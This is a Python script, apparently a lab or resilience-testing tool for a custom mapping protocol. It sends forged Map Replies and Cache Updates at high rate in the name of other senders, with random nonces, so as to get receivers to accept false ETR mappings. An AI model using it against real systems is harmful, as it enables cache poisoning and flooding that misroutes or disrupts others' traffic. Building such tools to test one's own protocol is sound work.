#!/usr/bin/python3
"""Forged Map Replies and Cache Updates, as fast as they go, in the name of others.

    forger.py RATE <PLAN        (until SIGINT)

PLAN is a JSON list of {"source", "source_port", "target", "target_port", "family", "first", "units",
"etr"}: who seems to send and to whom, which range the messages are about, and the ETR that they name.
Nonces and tokens are random. Source addresses must be on this node, so that sockets can be bound to
them. RATE is that of all messages, in a second. Prints one JSON object at the end.

Each call hands the kernel many datagrams at once (UDP segmentation), or Python would be the limit.
"""

from __future__ import annotations

import ipaddress
import itertools
import json
import os
import signal
import socket
import struct
import sys
import time

MESSAGE_BYTES = 88          # docs/protocol.md: header 40, body 48
AT_ONCE = 64                # datagrams in a call
SOL_UDP, UDP_SEGMENT = 17, 103
VERSION, MAP_REPLY, CACHE_UPDATE = 1, 3, 5
MAPPED = 0
CACHING_MS = 600_000
RANDOM_AT, RANDOM_BYTES = 8, 16     # nonce and token
SEQUENCE_HIGH = 1 << 40


def message(kind: int, entry: dict) -> bytes:
    """A message that a believing receiver would act on; its nonce is still to be guessed."""
    etr = ipaddress.ip_address(entry["etr"])
    header = struct.pack("!2sBBHH16sIIQ", b"Iv", VERSION, kind, MESSAGE_BYTES, 0, bytes(16),
                         0 if kind == CACHE_UPDATE else 1, 1, 1)
    return header + struct.pack("!BBBBIQQ16sQ", MAPPED, entry["family"], etr.version, 0, CACHING_MS,
                                entry["first"], entry["units"], etr.packed, SEQUENCE_HIGH)


def open_socket(entry: dict) -> socket.socket:
    family = socket.AF_INET6 if ":" in entry["source"] else socket.AF_INET
    opened = socket.socket(family, socket.SOCK_DGRAM)
    opened.setsockopt(SOL_UDP, UDP_SEGMENT, MESSAGE_BYTES)
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    opened.bind((entry["source"], entry["source_port"]))
    opened.connect((entry["target"], entry["target_port"]))
    return opened


def forged(template: bytes) -> bytearray:
    """Many copies, each with random nonce and token."""
    batch = bytearray(template * AT_ONCE)
    noise = os.urandom(RANDOM_BYTES * AT_ONCE)
    for number in range(AT_ONCE):
        begin = number * MESSAGE_BYTES + RANDOM_AT
        batch[begin:begin + RANDOM_BYTES] = noise[number * RANDOM_BYTES:(number + 1) * RANDOM_BYTES]
    return batch


def main() -> int:
    rate = float(sys.argv[1])
    stopped: list[int] = []
    signal.signal(signal.SIGINT, lambda *_: stopped.append(1))
    plan = json.load(sys.stdin)
    work = [(open_socket(entry), message(kind, entry)) for entry in plan
            for kind in (MAP_REPLY, CACHE_UPDATE)]
    sent = refused = 0
    begin = time.monotonic()
    for opened, template in itertools.cycle(work):
        if stopped:
            break
        due = begin + (sent + refused) / rate
        time.sleep(max(0.0, due - time.monotonic()))
        try:
            sent += opened.send(forged(template)) // MESSAGE_BYTES
        except OSError:
            refused += AT_ONCE
    print(json.dumps({"sent": sent, "refused": refused, "seconds": time.monotonic() - begin}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
